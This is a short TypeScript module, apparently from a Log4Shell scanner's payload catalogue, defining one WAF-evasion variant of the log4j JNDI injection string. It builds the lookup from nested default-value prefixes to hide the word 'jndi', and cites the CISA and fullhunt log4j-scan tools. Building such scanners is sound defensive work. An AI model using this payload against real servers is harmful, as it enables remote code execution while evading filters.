import { afterScheme, disguise } from '../form.ts'

/** `k8s` and `sd` have no value in a message, so the default stands; without the module that defines a prefix, any word does. */
export const unknownPrefixDefault = disguise(
  {
    id: 'unknown-prefix-default',
    summary: 'lookups without a value, with defaults',
    firesOn: ['B', 'C'],
    seenIn: [
      'CISA log4j-scan waf12, waf13, waf14, waf15, waf16',
      'fullhunt log4j-scan waf12, waf13, waf14, waf15, waf16',
    ],
  },
  (target) => `\${j\${k8s:k5:-ND}i\${sd:k5:-:}${target.scheme}:${afterScheme(target)}}`,
)
